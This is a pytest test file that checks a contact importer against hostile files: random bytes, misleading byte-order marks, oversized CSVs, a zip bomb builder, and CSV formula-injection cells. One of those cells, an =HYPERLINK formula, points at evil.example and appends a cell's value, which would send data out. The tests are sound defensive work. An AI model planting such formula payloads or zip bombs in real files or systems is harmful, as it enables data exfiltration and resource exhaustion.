"""Hostile contact files: each gives a clear UserError or a clean report, in bounded time and
memory, and a failed import writes nothing."""

from __future__ import annotations

import json
import re
import subprocess
import sys
import textwrap
import zipfile
import zlib

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from flows.import_contacts import run_import
from tasks.errors import UserError
from tasks.store import connect
from tests.reliability import full_run

EXAMPLES = 200 if full_run() else 12
OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def store_state(db) -> tuple:
    with connect(db) as conn:
        return conn.execute(
            "select (select count(*) from contacts), (select count(*) from campaign_contacts),"
            " (select count(*) from import_runs), (select coalesce(max(contact_id), 0) from contacts)"
        ).fetchone()


def attempt(campaign_db, path) -> str:
    """Import `path`; 'error: ...' for a UserError (then nothing may have changed), else 'ok'."""
    before = store_state(campaign_db["db"])
    try:
        result = run_import(campaign_db["campaign_id"], path, db=campaign_db["db"])
    except UserError as error:
        message = str(error)
        assert "\n" not in message and len(message) < 400, message  # one clear line
        assert store_state(campaign_db["db"]) == before  # nothing half-written
        return f"error: {message}"
    assert result.rows >= result.invalid
    return "ok"


@settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.binary(max_size=4096), suffix=st.sampled_from([".csv", ".xlsx", ".tsv"]))
def test_random_bytes_are_a_clear_error_or_a_clean_import(campaign_db, tmp_path, data, suffix):
    path = tmp_path / f"random{suffix}"
    path.write_bytes(data)
    attempt(campaign_db, path)


@settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    names=st.lists(st.text(min_size=0, max_size=40), min_size=1, max_size=8),
    encoding=st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-32", "cp1252", "shift_jis", "latin-1"]),
)
def test_any_text_in_any_encoding_imports_or_is_refused_cleanly(campaign_db, tmp_path, names, encoding):
    # found a crash: UTF-32 text starts with the UTF-16 byte-order mark; invalid UTF-16 raised
    # UnicodeDecodeError instead of a UserError
    rows = "\n".join(f'"{n.replace(chr(34), "")}",+1602555{i:04d}' for i, n in enumerate(names))
    try:
        data = f"Name,Phone\n{rows}\n".encode(encoding)
    except UnicodeEncodeError:
        data = f"Name,Phone\n{rows}\n".encode(encoding, errors="replace")
    path = tmp_path / "names.csv"
    path.write_bytes(data)
    attempt(campaign_db, path)


def test_formulas_import_as_text_and_export_neutralised(campaign_db, tmp_path):
    from openpyxl import load_workbook

    from tasks.contacts_import import export_contacts

    path = tmp_path / "formulas.csv"
    path.write_text(
        "Name,Phone,Company,Note\n"
        '"=HYPERLINK(""http://evil.example"",""click"")",+16025550001,+SUM(A1:A9),@cmd\n'
        '-2+3,+16025550002,=1+1,"=IMPORTXML(""x"")"\n', encoding="utf-8")
    assert attempt(campaign_db, path) == "ok"
    with connect(campaign_db["db"]) as conn:
        names = [r[0] for r in conn.execute("select name from contacts order by phone_e164").fetchall()]
        out = export_contacts(conn, campaign_db["campaign_id"], tmp_path / "out.xlsx")
    assert names == ['=HYPERLINK("http://evil.example","click")', "-2+3"]  # stored exactly as typed
    sheet = load_workbook(out).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    assert cells and all(c.data_type == "s" for c in cells)  # no cell is a formula
    # each formula-like text got its leading quote; "+digits" (a phone) can only ever be a number
    risky = [c.value for c in cells if c.value[:1] in "=+-@" and not re.fullmatch(r"\+\d+", c.value)]
    assert risky == []


def test_the_rejected_rows_report_neutralises_formulas(campaign_db, tmp_path):
    import csv

    path = tmp_path / "formulas.csv"
    path.write_text(
        "Name,Phone\n"
        'Ann,"=HYPERLINK(""http://evil.example/?""&A1,""details"")"\n'
        "Bob,@SUM(1+1)\n"
        "Cy,-2+3\n"
        "Di,+1 (602) 555\n", encoding="utf-8")
    report = tmp_path / "rejected.csv"
    run_import(campaign_db["campaign_id"], path, db=campaign_db["db"], report_path=report)
    with open(report, newline="", encoding="utf-8") as handle:
        values = [row["value"] for row in csv.DictReader(handle)]
    # a spreadsheet opening the report runs none of the file's text; a phone-like value stays as typed
    assert values == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"details\")", "'@SUM(1+1)", "'-2+3", "+1 (602) 555"]


def test_header_only_files_are_clear_errors(campaign_db, tmp_path):
    import xlsxwriter

    csv = tmp_path / "header.csv"
    csv.write_text("Name,Phone\n")
    book = tmp_path / "header.xlsx"
    with xlsxwriter.Workbook(book) as workbook:
        workbook.add_worksheet().write_row(0, 0, ["Name", "Phone"])
    for path in (csv, book):
        assert "header row but no data rows" in attempt(campaign_db, path)


def test_a_password_protected_workbook_is_named_as_such(campaign_db, tmp_path):
    path = tmp_path / "locked.xlsx"
    path.write_bytes(OLE_MAGIC + b"\0" * 4096)  # Excel's encrypted workbooks are OLE files, not zips
    assert "password-protected" in attempt(campaign_db, path)


def test_a_zip_that_is_not_a_workbook_is_a_clear_error(campaign_db, tmp_path):
    path = tmp_path / "notabook.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("hello.txt", "hi")
    assert attempt(campaign_db, path).startswith("error: notabook.xlsx: cannot read")


# The big ones run in a child process so their peak memory can be measured on their own.
BIG = textwrap.dedent(
    """
    import json, resource, sys, time
    from pathlib import Path
    from flows.import_contacts import run_import
    from tasks.errors import UserError

    db, campaign_id, path = sys.argv[1], int(sys.argv[2]), Path(sys.argv[3])
    started = time.perf_counter()
    try:
        result = run_import(campaign_id, path, db=db)
        outcome = f"ok rows={result.rows} imported={result.imported} invalid={result.invalid}"
    except UserError as error:
        outcome = f"error: {error}"
    peak_mb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
    print(json.dumps({"outcome": outcome, "seconds": time.perf_counter() - started, "peak_mb": peak_mb}))
    """
)


def zip_bomb(path, unpacked_mb: int) -> None:
    """An 'xlsx' whose sheet claims and holds `unpacked_mb` MB of zeros in a few hundred KB."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            chunk = b"\0" * 2**20
            for _ in range(unpacked_mb):
                sheet.write(chunk)


def big_file(kind: str, path) -> None:
    if kind == "cell_50mb":
        with open(path, "wb") as handle:
            handle.write(b"Name,Phone\n\"")
            handle.write(b"A" * 50 * 2**20)
            handle.write(b"\",+16025550001\n")
    elif kind == "million_columns":  # 1 MB: a header line of commas
        with open(path, "wb") as handle:
            handle.write(b"Phone" + b"," * 1_000_000 + b"\n+16025550001\n")
    elif kind == "columns_5000":  # 60 s and climbing with the square of the columns before the limit
        header = ",".join(["Phone", *(f"c{i}" for i in range(5000))])
        path.write_text(f"{header}\n+16025550001{',v' * 5000}\n")
    elif kind == "wide_sheet":
        import xlsxwriter

        with xlsxwriter.Workbook(path) as workbook:
            sheet = workbook.add_worksheet()
            sheet.write_row(0, 0, ["Phone", *(f"c{i}" for i in range(3000))])
            sheet.write_row(1, 0, ["+16025550001", *(["v"] * 3000)])
    elif kind == "million_empty_rows":
        with open(path, "wb") as handle:
            handle.write(b"Name,Phone,Company\n" + b",,\n" * 1_000_000 + b"Ann,+16025550001,Acme\n")
    else:
        zip_bomb(path, 1100)


@pytest.mark.parametrize(
    "kind, suffix, expected, max_seconds",
    [
        ("cell_50mb", ".csv", "error: cell_50mb.csv: row 2, column 1: a cell of 52,428,800 characters", 30),
        ("million_empty_rows", ".csv", "ok rows=1 imported=1 invalid=0", 30),  # blank records are skipped
        ("zip_bomb", ".xlsx", "error: zip_bomb.xlsx: unpacks to 1,100 MB", 10),
        # every field of the header is a column (13 GB and hours for the million before the limit)
        ("million_columns", ".csv", "error: million_columns.csv: row 1 has 1,000,001 fields (at most 1,000", 10),
        ("columns_5000", ".csv", "error: columns_5000.csv: row 1 has 5,001 fields (at most 1,000", 10),
        ("wide_sheet", ".xlsx", "error: wide_sheet.xlsx: 3,001 columns (at most 1,000)", 10),
    ],
)
def test_huge_inputs_are_bounded_in_time_and_memory(campaign_db, tmp_path, kind, suffix, expected, max_seconds):
    path = tmp_path / f"{kind}{suffix}"
    big_file(kind, path)
    before = store_state(campaign_db["db"])
    child = subprocess.run(
        [sys.executable, "-c", BIG, str(campaign_db["db"]), str(campaign_db["campaign_id"]), str(path)],
        capture_output=True, text=True, timeout=300,
    )
    assert child.returncode == 0, child.stderr[-2000:]
    figures = json.loads(child.stdout.strip().splitlines()[-1])
    assert figures["outcome"].startswith(expected), figures
    assert figures["seconds"] < max_seconds, figures
    assert figures["peak_mb"] < 1500, figures  # the 50 MB cell and the zip bomb are never blown up in memory
    if expected.startswith("error"):
        assert store_state(campaign_db["db"]) == before


def test_a_file_at_the_column_limit_still_imports(campaign_db, tmp_path):
    from tasks.contacts_import import MAX_COLUMNS

    path = tmp_path / "wide.csv"
    others = [f"c{i}" for i in range(MAX_COLUMNS - 1)]
    path.write_text(",".join(["Phone", *others]) + "\n" + "".join(
        f"+160255500{n:02d}" + ",v" * len(others) + "\n" for n in range(3)))
    assert attempt(campaign_db, path) == "ok"


@pytest.mark.parametrize("data", [
    "Name,Phone\nAnn,+16025550001\n".encode("utf-32"),  # FF FE 00 00: also the UTF-16 LE mark
    b"\xff\xfeN\x00a\x00\x00\xd8",  # a UTF-16 mark, then a lone surrogate
])
def test_byte_order_marks_that_lie_are_clear_errors_or_decoded(campaign_db, tmp_path, data):
    path = tmp_path / "bom.csv"
    path.write_bytes(data)
    outcome = attempt(campaign_db, path)
    assert outcome == "ok" or "byte-order mark" in outcome or "no data rows" in outcome
